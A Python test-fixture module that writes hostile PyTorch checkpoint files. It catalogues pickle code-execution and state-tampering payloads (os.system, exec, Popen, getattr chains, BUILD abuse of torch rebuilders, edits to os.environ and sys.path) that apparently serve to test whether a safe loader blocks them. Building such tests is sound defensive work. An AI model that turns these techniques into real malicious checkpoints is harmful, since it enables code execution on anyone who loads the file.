"""Hostile checkpoint files, written opcode by opcode.

Each technique is a pickle expression that tries to run code, write a file or change the process
when a loader reads it; :func:`write` wraps it, beside one real tensor, in PyTorch's zip format,
its legacy (raw pickle) format, the pre-1.0 tar format or a bare pickle, at the top level or
nested in containers. Every technique names ``trace``: the file that appears, or the module
attribute that changes, if it works. ``conftest.py`` serves this module as the
``hostile_checkpoint`` fixture.
"""

from __future__ import annotations

import io
import pickle as P
import struct
import tarfile
import zipfile
from pathlib import Path

TENSOR = [1.0, 2.0, 3.0, 4.0]  # the real tensor "w" of every file


def _str(x: str) -> bytes:
    b = x.encode()
    return P.BINUNICODE + struct.pack("<I", len(b)) + b


def _glob(mod: str, name: str) -> bytes:
    return P.GLOBAL + f"{mod}\n{name}\n".encode()


def _int(n: int) -> bytes:
    return (
        P.LONG1 + bytes([8]) + struct.pack("<q", n)
        if n > 2**31 - 1
        else P.BININT + struct.pack("<i", n)
    )


def _tuple(*items: bytes) -> bytes:
    return P.MARK + b"".join(items) + P.TUPLE


def _call(fn: bytes, *args: bytes) -> bytes:
    return fn + _tuple(*args) + P.REDUCE


def _dict(**items: bytes) -> bytes:
    return P.EMPTY_DICT + P.MARK + b"".join(_str(k) + v for k, v in items.items()) + P.SETITEMS


def _pid(key: str, numel: int, legacy: bool, stype: bytes | None = None) -> bytes:
    fields = [_str("storage"), stype or _glob("torch", "FloatStorage"), _str(key), _str("cpu"),
              _int(numel)]  # fmt: skip
    if legacy:
        fields.append(P.NONE)
    return _tuple(*fields) + P.BINPERSID


def _tensor(legacy: bool, hooks: bytes | None = None) -> bytes:
    return _call(
        _glob("torch._utils", "_rebuild_tensor_v2"), _pid("0", len(TENSOR), legacy), _int(0),
        _tuple(_int(len(TENSOR))), _tuple(_int(1)), P.NEWFALSE,
        hooks or _call(_glob("collections", "OrderedDict")),
    )  # fmt: skip


def _shell(trace: Path) -> bytes:
    return _str(f"touch {trace}")


# technique name -> (expression builder (trace, legacy) -> bytes, formats it applies to)
def _techniques() -> dict:
    rebuild = _glob("torch._utils", "_rebuild_tensor_v2")
    return {
        # classic: call os.system / exec / eval / Popen by REDUCE
        "reduce_os_system": lambda t, lg: _call(_glob("os", "system"), _shell(t)),
        "reduce_exec": lambda t, lg: _call(
            _glob("builtins", "exec"), _str(f"open({str(t)!r}, 'w').close()")
        ),
        "reduce_eval_posix": lambda t, lg: _call(_glob("posix", "system"), _shell(t)),
        "stack_global_subprocess": lambda t, lg: (
            _str("subprocess")
            + _str("check_call")
            + P.STACK_GLOBAL
            + _tuple(_tuple(_str("touch"), _str(str(t))))
            + P.REDUCE
        ),
        "getattr_chain": lambda t, lg: _call(
            _call(
                _glob("builtins", "getattr"),
                _call(_glob("builtins", "__import__"), _str("os")),
                _str("system"),
            ),
            _shell(t),
        ),  # fmt: skip
        "dotted_name": lambda t, lg: _call(_glob("os", "path.os.system"), _shell(t)),
        # instance-making opcodes
        "newobj_popen": lambda t, lg: (
            _glob("subprocess", "Popen") + _tuple(_tuple(_str("touch"), _str(str(t)))) + P.NEWOBJ
        ),
        "inst_os_system": lambda t, lg: P.MARK + _shell(t) + b"ios\nsystem\n",
        "obj_os_system": lambda t, lg: P.MARK + _glob("os", "system") + _shell(t) + P.OBJ,
        # BUILD on an allowed function: dump_patches + __name__ (the file-writing path)...
        "build_dump_patches": lambda t, lg: (
            rebuild + _tuple(P.NONE, _dict(dump_patches=P.NEWTRUE, __name__=_str(str(t)))) + P.BUILD
        ),
        # ...then a legacy persistent id ("module", fn, file, source): torch compares sources
        "persid_module": lambda t, lg: (
            _tuple(_str("module"), rebuild, _str(str(t)), _str("x = 1\n")) + P.BINPERSID
        ),
        "patch_file_write": lambda t, lg: _tuple(
            rebuild
            + _tuple(P.NONE, _dict(dump_patches=P.NEWTRUE, __name__=_str(str(t))))
            + P.BUILD,
            _tuple(_str("module"), rebuild, _str(str(t)), _str("x = 1\n")) + P.BINPERSID,
        ),
        # change torch for the rest of the process: defaults of the tensor rebuilder
        "build_defaults": lambda t, lg: (
            rebuild + _tuple(P.NONE, _dict(__defaults__=_tuple(_dict(neg=P.NEWTRUE)))) + P.BUILD
        ),
        "build_on_global_dict": lambda t, lg: (
            _glob("torch._utils", "_rebuild_parameter") + _dict(PWNED=P.NEWTRUE) + P.BUILD
        ),
        # mutate globals through container opcodes
        "setitem_on_global": lambda t, lg: (
            _glob("os", "environ") + _str("HARNESS_PWNED") + _str("1") + P.SETITEM
        ),
        "append_on_global": lambda t, lg: _glob("sys", "path") + _str(str(t)) + P.APPEND,
        "setitems_on_module_dict": lambda t, lg: (
            _call(_glob("builtins", "vars"), _glob("torch", "_utils"))
            + P.MARK
            + _str("PWNED")
            + P.NEWTRUE
            + P.SETITEMS
        ),
        # torch rebuilders with arguments they must not take
        "tensor_with_hooks": lambda t, lg: _tensor(lg, hooks=_dict(h=_glob("os", "system"))),
        "huge_storage": lambda t, lg: _call(
            rebuild,
            _pid("0", 1 << 40, lg),
            _int(0),
            _tuple(_int(1 << 40)),
            _tuple(_int(1)),
            P.NEWFALSE,
            _call(_glob("collections", "OrderedDict")),
        ),  # fmt: skip
        "storage_class_called": lambda t, lg: _call(_glob("torch", "FloatStorage"), _int(1 << 30)),
        "ordered_dict_dunder_state": lambda t, lg: (
            _call(_glob("collections", "OrderedDict"))
            + _dict(__class__=_glob("os", "system"))
            + P.BUILD
        ),
        "ext_opcode": lambda t, lg: P.EXT1 + bytes([1]),
        "persid_text": lambda t, lg: P.PERSID + b"x\n",
    }


TECHNIQUES = tuple(_techniques())
FORMATS = ("zip", "legacy", "tar", "bare")
MAGIC = 0x1950A86A20F9469CFC6C


def _main(expr: bytes, legacy: bool, nested: bool) -> bytes:
    if nested:  # {"cfg": [ {"inner": (expr,)} ]}
        expr = _dict(cfg=P.EMPTY_LIST + _dict(inner=_tuple(expr)) + P.APPEND)
    return P.PROTO + b"\x02" + _dict(w=_tensor(legacy), payload=expr) + P.STOP


def write(path: Path, technique: str, fmt: str, trace: Path, nested: bool = False) -> Path:
    """A file at ``path`` holding ``{"w": tensor, "payload": <technique>}`` in ``fmt``."""
    import struct as st

    expr = _techniques()[technique](trace, fmt != "zip")
    data = st.pack(f"<{len(TENSOR)}f", *TENSOR)
    if fmt == "zip":
        buf = io.BytesIO()
        with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as z:
            z.writestr("archive/data.pkl", _main(expr, False, nested))
            z.writestr("archive/byteorder", "little")
            z.writestr("archive/data/0", data)
            z.writestr("archive/version", "3\n")
        path.write_bytes(buf.getvalue())
    elif fmt == "legacy":
        head = b"".join(P.dumps(x, protocol=2) for x in (MAGIC, 1001, {"little_endian": True}))
        tail = P.dumps(["0"], protocol=2) + st.pack("<q", len(TENSOR)) + data
        path.write_bytes(head + _main(expr, True, nested) + tail)
    elif fmt == "tar":  # the pre-1.0 format: the payload is its first record
        with tarfile.open(path, "w") as tar:
            body = P.PROTO + b"\x02" + expr + P.STOP
            for name in ("sys_info", "pickle", "storages", "tensors"):
                info = tarfile.TarInfo(name)
                info.size = len(body)
                tar.addfile(info, io.BytesIO(body))
    elif fmt == "bare":  # the payload is the first object a loader reads
        path.write_bytes(P.PROTO + b"\x02" + expr + P.STOP)
    else:
        raise ValueError(fmt)
    return path
